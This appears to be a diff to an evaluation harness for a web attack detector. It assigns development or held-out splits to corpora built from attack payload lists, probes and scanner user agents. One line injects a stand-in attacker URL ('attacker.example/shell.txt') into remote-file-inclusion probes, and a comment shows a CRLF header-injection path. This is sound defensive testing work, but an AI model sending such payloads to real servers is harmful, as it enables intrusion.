@@ -7,6 +7,7 @@ import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import type { Category } from '../src/core/detection.js';
 import type { EventLike } from '../src/detect/rules/index.js';
+import { lineSplit, listProvenance, type Split } from './split.js';
 
 export interface Sample {
   label: Category;
@@ -16,6 +17,8 @@ export interface Sample {
   event: EventLike;
   /** Free text from the source record (the scanner list's description), when it has one. */
   note?: string;
+  /** Development or held-out (eval/split.ts). */
+  split: Split;
 }
 
 const BROWSER_UA = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36';
@@ -64,22 +67,26 @@ export function buildAttackCorpus(dataDir: string, include: Category[] = PAYLOAD
     const file = cat === 'php_injection' ? 'php_injection' : cat;
     // An open-redirect target is only an attack in a parameter the app redirects to.
     const [page, param] = cat === 'open_redirect' ? ['/login', 'next'] : ['/search', 'q'];
-    for (const raw of lines(join(dataDir, 'payloads', `${file}.txt`))) {
+    const raws = lines(join(dataDir, 'payloads', `${file}.txt`));
+    const prov = listProvenance(dataDir, `payloads/${file}.txt`, raws.length);
+    raws.forEach((raw, i) => {
       const p = fillPlaceholders(raw);
-      out.push({ label: cat, source: `payloads/${file}.txt`, variant: 'query', payload: p, event: ev(page, `${param}=${encodeMinimal(p, '&+#')}`) });
-      out.push({ label: cat, source: `payloads/${file}.txt`, variant: 'query-encoded', payload: p, event: ev(page, `${param}=${encodeURIComponent(p)}`) });
+      const split = lineSplit(prov, i);
+      const source = `payloads/${file}.txt`;
+      out.push({ label: cat, source, split, variant: 'query', payload: p, event: ev(page, `${param}=${encodeMinimal(p, '&+#')}`) });
+      out.push({ label: cat, source, split, variant: 'query-encoded', payload: p, event: ev(page, `${param}=${encodeURIComponent(p)}`) });
       if (cat === 'path_traversal' || cat === 'lfi') {
         const path = p.startsWith('/') ? p : `/static/${p}`;
-        out.push({ label: cat, source: `payloads/${file}.txt`, variant: 'path', payload: p, event: ev(encodeMinimal(path, '?#')) });
+        out.push({ label: cat, source, split, variant: 'path', payload: p, event: ev(encodeMinimal(path, '?#')) });
       }
       if (cat === 'crlf') {
         // Header injection is most often sent in the path (`/%0d%0aSet-Cookie:...`).
-        out.push({ label: cat, source: `payloads/${file}.txt`, variant: 'path', payload: p, event: ev(encodeMinimal(p.startsWith('/') ? p : `/${p}`, '?#')) });
+        out.push({ label: cat, source, split, variant: 'path', payload: p, event: ev(encodeMinimal(p.startsWith('/') ? p : `/${p}`, '?#')) });
       }
       if (cat === 'log4shell') {
-        out.push({ label: cat, source: `payloads/${file}.txt`, variant: 'user_agent', payload: p, event: ev('/', '', p) });
+        out.push({ label: cat, source, split, variant: 'user_agent', payload: p, event: ev('/', '', p) });
       }
-    }
+    });
   }
   return out;
 }
@@ -91,22 +98,27 @@ function probePath(p: string): { path: string; query: string } {
 
 export function buildProbeCorpus(dataDir: string): Sample[] {
   const out: Sample[] = [];
-  const probe = (label: Category, file: string, raw: string) => {
+  const probe = (label: Category, file: string, raw: string, split: Split) => {
     const { path, query } = probePath(encodeMinimal(raw, '#'));
-    out.push({ label, source: `probes/${file}`, variant: 'target', payload: raw, event: ev(path, query) });
+    out.push({ label, source: `probes/${file}`, split, variant: 'target', payload: raw, event: ev(path, query) });
   };
-  for (const p of lines(join(dataDir, 'probes', 'sensitive_files.txt'))) probe('sensitive_file', 'sensitive_files.txt', p);
-  for (const p of lines(join(dataDir, 'probes', 'webshells.txt'))) probe('webshell', 'webshells.txt', p);
-  for (const p of lines(join(dataDir, 'probes', 'rfi_vulnerable_paths.txt'))) {
-    probe('rfi', 'rfi_vulnerable_paths.txt', p.replace(/XXpathXX/g, 'http://attacker.example/shell.txt'));
-  }
+  const list = (file: string, each: (raw: string, split: Split) => void) => {
+    const raws = lines(join(dataDir, 'probes', file));
+    const prov = listProvenance(dataDir, `probes/${file}`, raws.length);
+    raws.forEach((raw, i) => each(raw, lineSplit(prov, i)));
+  };
+  list('sensitive_files.txt', (p, split) => probe('sensitive_file', 'sensitive_files.txt', p, split));
+  list('webshells.txt', (p, split) => probe('webshell', 'webshells.txt', p, split));
+  list('rfi_vulnerable_paths.txt', (p, split) =>
+    probe('rfi', 'rfi_vulnerable_paths.txt', p.replace(/XXpathXX/g, 'http://attacker.example/shell.txt'), split),
+  );
   for (const l of lines(join(dataDir, 'probes', 'nuclei_requests.jsonl'))) {
     const r = JSON.parse(l) as { path: string; category: string; cve?: string | null };
-    if (r.category === 'cves' || (r.cve ?? '') !== '') probe('cve_probe', 'nuclei_requests.jsonl', r.path);
+    if (r.category === 'cves' || (r.cve ?? '') !== '') probe('cve_probe', 'nuclei_requests.jsonl', r.path, 'dev');
   }
   for (const l of lines(join(dataDir, 'probes', 'scanner_user_agents.jsonl'))) {
     const r = JSON.parse(l) as { user_agent: string; description?: string | null };
-    out.push({ label: 'scanner', source: 'probes/scanner_user_agents.jsonl', variant: 'user_agent', payload: r.user_agent, event: ev('/', '', r.user_agent), note: r.description ?? '' });
+    out.push({ label: 'scanner', source: 'probes/scanner_user_agents.jsonl', split: 'dev', variant: 'user_agent', payload: r.user_agent, event: ev('/', '', r.user_agent), note: r.description ?? '' });
   }
   return out;
 }
@@ -116,6 +128,7 @@ export function buildHardNegatives(dataDir: string): Sample[] {
   return lines(join(dataDir, 'payloads', 'negatives_sqli_false_positives.txt')).map((p) => ({
     label: 'anomaly',
     source: 'payloads/negatives_sqli_false_positives.txt',
+    split: 'dev' as const,
     variant: 'query',
     payload: p,
     event: ev('/search', `q=${encodeMinimal(p, '&+#')}`),
